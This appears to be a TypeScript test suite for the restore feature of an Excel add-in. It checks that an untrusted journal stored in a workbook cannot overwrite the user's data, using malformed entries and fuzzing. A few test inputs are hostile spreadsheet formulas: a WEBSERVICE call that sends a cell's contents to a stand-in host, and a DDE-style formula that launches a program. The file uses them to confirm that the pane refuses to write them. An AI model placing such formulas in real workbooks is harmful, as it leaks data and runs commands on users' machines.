import fc from 'fast-check'
import { click, mountFeature, named, settle, textOf } from '../../support/pane-page'
import * as planCheckFeature from '../../../src/pane/features/plan-check'
import { ownWork } from '../../../src/pane/features/plan-check/restore/own-work'
import { reviewJournal, takeBack } from '../../../src/workbook/journal/take-back'
import { recordedWorkbook, type JournalTrouble } from '../../../src/workbook/journal/recorded-workbook'
import { FakeWorkbook, type FakeCell } from '../../builders/fake-workbook'
import { eventually } from '../../support/eventually'
import { serial } from '../../builders/serial'

// What a workbook says that the pane wrote, and what the pane makes of that. The workbook may come from anybody.

const area = (row: number, column: number, rows = 1, columns = 1, sheet = 'Blad1') => ({
  sheet,
  row,
  column,
  rows,
  columns,
})
const sheetRows: readonly (readonly FakeCell[])[] = [
  ['Opleiding', 'Start', 'Kost', 'Nummer', 'Controle', 'Som'],
  ['Excel', serial('2026-12-07'), 605, 'DV.O100275', { formula: '=SUM(C2)' }, { formula: '=C2*2', value: 1210 }],
  ['Word', serial('2026-12-08'), 500, 'y', { formula: '=SUM(C3)' }, { formula: '=C3*2', value: 1000 }],
]

function book(journal?: unknown): FakeWorkbook {
  const workbook = new FakeWorkbook(
    { Blad1: sheetRows, Loon: [['Jan', 2500]], Leeg: [] },
    { tables: [{ name: 'Plan', area: area(0, 0, 3, 6) }] },
  )
  workbook.settings.set('kmo.plan', { applicant: 'small' })
  if (journal !== undefined)
    workbook.parts.set('written', typeof journal === 'string' ? journal : JSON.stringify(journal))
  return workbook
}
const entry = (part: object): object => ({ id: 1, on: '2026-01-01', ...part })
const cells = (at: object, before: unknown, after: unknown, more: object = {}): object =>
  entry({ kind: 'cells', area: at, before: [[[1, before]]], after: [[[1, after]]], formatted: false, ...more })
const contents = (workbook: FakeWorkbook) => JSON.stringify([...workbook.cells])

async function openRestore(workbook: FakeWorkbook) {
  const page = mountFeature(planCheckFeature, workbook)
  await eventually(() => expect(textOf(page.root)).toContain('Herstellen'))
  click(page.root, 'Herstellen')
  await eventually(() => expect(textOf(page.root)).not.toContain('Even kijken'))
  return page
}

describe('an entry that is none is left out, and that is said once', () => {
  test.each<readonly [string, unknown]>([
    [
      'a count beyond all cells',
      [cells(area(0, 0), 'x', 'y', { before: [[[2_000_000_000, 'x']]], after: [[[2_000_000_000, 'y']]] })],
    ],
    ['a count of 1e300', [cells(area(0, 0), 'x', 'y', { after: [[[1e300, 'y']]] })]],
    [
      'a count below one',
      [
        cells(area(0, 0), 'x', 'y', {
          after: [
            [
              [0, 'y'],
              [1, 'y'],
            ],
          ],
        }),
      ],
    ],
    ['more contents than cells', [cells(area(0, 0), 'x', 'y', { after: [[[2, 'y']]] })]],
    ['fewer columns than the area', [cells(area(0, 0, 1, 2), 'x', 'y')]],
    ['a whole sheet', [cells(area(0, 0, 1_048_576, 16_384), 'x', 'y')]],
    ['cells outside the sheet', [cells(area(1_048_576, 0), 'x', 'y')]],
    ['half a row', [cells(area(0.5, 0), 'x', 'y')]],
    ['contents that are lists', [cells(area(0, 0), ['x'], ['y'])]],
    ['a text longer than a cell', [cells(area(0, 0), 'x'.repeat(40_000), 'y')]],
    ['a formula longer than Excel takes', [cells(area(0, 0), { f: `=${'1+'.repeat(5000)}1` }, 'DV.O100275')]],
    ['another kind', [entry({ kind: 'notes' })]],
    ['no kind', [entry({})]],
    ['colours that are a number', [entry({ kind: 'lights', lights: 5 })]],
    ['colours without cells', [entry({ kind: 'lights', lights: { lights: [] } })]],
    ['no colours', [entry({ kind: 'lights' })]],
    ['columns that are null', [entry({ kind: 'columns', table: 'Plan', columns: null, areas: [] })]],
    ['columns by number', [entry({ kind: 'columns', table: 'Plan', columns: [5], areas: [] })]],
    ['a sheet without a name', [entry({ kind: 'sheet' })]],
    ['a day that is none', [{ kind: 'sheet', sheet: 'Loon', on: 'gisteren' }]],
    ['a number', 5],
    ['an object', { kind: 'sheet' }],
    ['no JSON', '[{'],
    ['brackets without end', '['.repeat(100_000)],
    ['more text than the pane ever keeps', JSON.stringify(['x'.repeat(4_000_000)])],
  ])('%s', async (_what, journal) => {
    const workbook = book(journal)
    const before = contents(workbook)
    const { root, warned } = await openRestore(workbook)
    expect(warned).toEqual(['left-out'])
    expect(textOf(root)).toContain('Er is niets om te herstellen')
    expect(contents(workbook)).toBe(before)
  })

  test('the others count, and what is written from then on is noted', async () => {
    const workbook = book([entry({ kind: 'notes' }), cells(area(1, 3), 'DV.0100275', 'DV.O100275'), null])
    const troubles: JournalTrouble[] = []
    const recorded = recordedWorkbook(workbook, '2026-11-24', (trouble) => troubles.push(trouble))
    await recorded.write([{ area: area(1, 2), before: [[605]], after: [[500]] }])
    expect(troubles).toEqual(['left-out'])
    const { reviews, leftOut } = await reviewJournal(recorded, ownWork())
    expect([reviews.map(({ possible }) => possible), leftOut]).toEqual([[1, 1], 0])
    await takeBack(recorded, ownWork(), reviews)
    expect([workbook.at('Blad1', 1, 2), workbook.at('Blad1', 1, 3)]).toEqual([605, 'DV.0100275'])
  })

  test('of very many the newest', async () => {
    const one = cells(area(1, 3), 'DV.0100275', 'DV.O100275')
    const { reviews, leftOut } = await reviewJournal(book(Array.from({ length: 1000 }, () => one)), ownWork())
    expect([reviews.length, leftOut]).toEqual([300, 700])
  })

  test('of very many cells the newest', async () => {
    const wide = entry({
      kind: 'cells',
      area: area(10, 0, 250_000, 1),
      before: [[[250_000, 'x']]],
      after: [[[250_000, null]]],
    })
    const { leftOut } = await reviewJournal(book([wide, wide, wide]), ownWork())
    expect(leftOut).toBe(1)
  })
})

describe('what the pane did not write stays, and why is told', () => {
  test.each<readonly [string, object, string]>([
    [
      'a sheet of the user',
      entry({ kind: 'sheet', sheet: 'Loon' }),
      'niet te zien is dat dit venster het schreef: Loon',
    ],
    [
      'a sheet with a fingerprint and no mark in it',
      entry({ kind: 'sheet', sheet: 'Loon', fingerprint: 'abc', mark: 'x' }),
      'niet te zien is dat dit venster het schreef: Loon',
    ],
    [
      'an empty sheet',
      entry({ kind: 'sheet', sheet: 'Leeg', mark: '' }),
      'niet te zien is dat dit venster het schreef: Leeg',
    ],
    [
      'a column of the user',
      entry({ kind: 'columns', table: 'Plan', columns: [{ header: 'Som', formula: '=C2*2' }], areas: [] }),
      'Intussen gewijzigd, en blijft staan: Som',
    ],
    [
      'a column with our header',
      entry({ kind: 'columns', table: 'Plan', columns: [{ header: 'Controle', formula: '=SUM(C2)' }], areas: [] }),
      'Controle',
    ],
    ['a text of the user', cells(area(2, 3), 'x', 'y'), 'niet te zien is dat dit venster het schreef: D3'],
    ['an amount of the user', cells(area(2, 2), 1, 500), 'niet te zien is dat dit venster het schreef: C3'],
    [
      'a formula of the user',
      cells(area(1, 5), 'x', { f: '=C\u0001*2' }),
      'niet te zien is dat dit venster het schreef: F2',
    ],
    ['what is not there', cells(area(2, 3), 'x', 'DV.O100275'), 'Intussen gewijzigd, en blijft staan: D3'],
    [
      'a formula that asks the network',
      cells(area(1, 3), { f: '=WEBSERVICE("https://example.org/?"&A1)' }, 'DV.O100275'),
      'die dit venster niet opnieuw schrijft: D2',
    ],
    [
      'a formula that asks another file',
      cells(area(1, 3), { f: "='[b.xlsx]Blad'!A1" }, 'DV.O100275'),
      'die dit venster niet opnieuw schrijft: D2',
    ],
    [
      'a formula that starts a program',
      cells(area(1, 3), { f: "=cmd|'/c calc'!A0" }, 'DV.O100275'),
      'die dit venster niet opnieuw schrijft: D2',
    ],
    [
      'no formula at all',
      cells(area(1, 3), { f: 'DV.0100275' }, 'DV.O100275'),
      'die dit venster niet opnieuw schrijft: D2',
    ],
  ])('%s', async (_what, journal, sentence) => {
    const workbook = book([journal])
    const before = contents(workbook)
    const { root } = await openRestore(workbook)
    expect(textOf(root)).toContain(sentence)
    expect(named<HTMLButtonElement>(root, '0 onderdelen herstellen').disabled).toBe(true)
    const { reviews } = await reviewJournal(workbook, ownWork())
    await takeBack(workbook, ownWork(), reviews)
    expect(contents(workbook)).toBe(before)
  })
})

describe('what is put back is shown first', () => {
  test('a formula of the user that a repair took away', async () => {
    const workbook = book([cells(area(1, 3), { f: '=IF(C\u0001>0,"DV.0"&A\u0001,"")' }, 'DV.O100275')])
    const { root } = await openRestore(workbook)
    expect(textOf(root)).toContain('D2 (Blad1): DV.O100275 wordt weer =ALS(C2>0;"DV.0"&A2;"")')
    click(root, '1 onderdeel herstellen')
    await eventually(() => expect(workbook.at('Blad1', 1, 3)).toEqual({ formula: '=IF(C2>0,"DV.0"&A2,"")' }))
  })
  test('each of several cells', async () => {
    const workbook = book([
      entry({
        kind: 'cells',
        area: area(1, 3, 2, 1),
        before: [
          [
            [1, 'DV.0100275'],
            [1, 'z'],
          ],
        ],
        after: [
          [
            [1, 'DV.O100275'],
            [1, null],
          ],
        ],
      }),
    ])
    const { root } = await openRestore(workbook)
    expect(textOf(root.querySelector('details'))).toBe('Wat er terugkomt (1 cel) D2: DV.O100275 wordt weer DV.0100275')
    click(root, '1 onderdeel herstellen')
    await eventually(() => expect(workbook.at('Blad1', 1, 3)).toBe('DV.0100275'))
    expect(workbook.at('Blad1', 2, 3)).toBe('y')
  })
  test('what changed since it was shown is not taken back', async () => {
    const workbook = book([cells(area(1, 3), 'DV.0100275', 'DV.O100275')])
    const { root } = await openRestore(workbook)
    workbook.userWrites('Blad1', 1, 3, 'van mij')
    click(root, '1 onderdeel herstellen')
    await eventually(() => expect(textOf(root)).toContain('intussen gewijzigd'))
    await settle(10)
    expect(workbook.at('Blad1', 1, 3)).toBe('van mij')
  })
})

test('formats of the user are left alone where the entry covers more than the pane wrote', async () => {
  const workbook = book([
    entry({
      kind: 'cells',
      area: area(1, 2, 1, 2),
      before: [[[1, 605]], [[1, '']]],
      after: [[[1, null]], [[1, 'DV.O100275']]],
      formatted: true,
    }),
  ])
  workbook.numberFormats.set('Blad1 1 2', '0.00')
  const { reviews } = await reviewJournal(workbook, ownWork())
  await takeBack(workbook, ownWork(), reviews)
  expect([workbook.at('Blad1', 1, 3), workbook.numberFormats.get('Blad1 1 2')]).toEqual(['', '0.00'])
})

test('whatever stands in the journal: nothing of the user goes, and looking ends', async () => {
  const scalar = fc.oneof(fc.string(), fc.integer(), fc.double(), fc.boolean(), fc.constant(null))
  const anArea = fc.record(
    {
      sheet: fc.constantFrom('Blad1', 'Loon', 'Leeg', 'Weg'),
      row: fc.nat(4),
      column: fc.nat(6),
      rows: fc.constantFrom(0, 1, 2, 1e9),
      columns: fc.constantFrom(1, 2, -1),
    },
    { requiredKeys: [] },
  )
  const packed = fc.array(
    fc.array(
      fc.tuple(
        fc.constantFrom(1, 2, 2e9, 0.5),
        fc.oneof(scalar, fc.record({ f: fc.string() }), fc.constantFrom(605, 500, 'y', 'Jan')),
      ),
    ),
  )
  const anEntry = fc.record(
    {
      kind: fc.constantFrom('cells', 'columns', 'sheet', 'lights', 'x'),
      on: fc.constantFrom('2026-01-01', 'x'),
      id: scalar,
      area: anArea,
      before: packed,
      after: packed,
      table: fc.constantFrom('Plan', 'Ander'),
      columns: fc.array(
        fc.record({
          header: fc.constantFrom('Som', 'Controle', 'Kost'),
          formula: fc.constantFrom('=C2*2', '=SUM(C2)', ''),
        }),
      ),
      areas: fc.array(anArea),
      sheet: fc.constantFrom('Loon', 'Leeg', 'Blad1'),
      mark: scalar,
      fingerprint: scalar,
      lights: fc.anything(),
    },
    { requiredKeys: ['kind'] },
  )
  await fc.assert(
    fc.asyncProperty(fc.oneof(fc.array(anEntry, { maxLength: 5 }), fc.jsonValue()), async (journal) => {
      const workbook = book(JSON.stringify(journal))
      const before = contents(workbook)
      const { reviews } = await reviewJournal(workbook, ownWork())
      expect(reviews.filter(({ possible }) => possible > 0)).toEqual([])
      await takeBack(workbook, ownWork(), reviews)
      expect(contents(workbook)).toBe(before)
    }),
    { numRuns: 300 },
  )
})

test('whatever stands in the settings, the plan is found', async () => {
  await fc.assert(
    fc.asyncProperty(fc.jsonValue(), async (kept) => {
      const workbook = book()
      workbook.settings.set('kmo.plan', kept)
      const { root, warned, leave } = mountFeature(planCheckFeature, workbook)
      await eventually(() => expect(root.querySelector('select')?.value).toBe('table Plan'))
      expect(warned.length).toBeLessThanOrEqual(1)
      leave()
    }),
    { numRuns: 25 },
  )
})
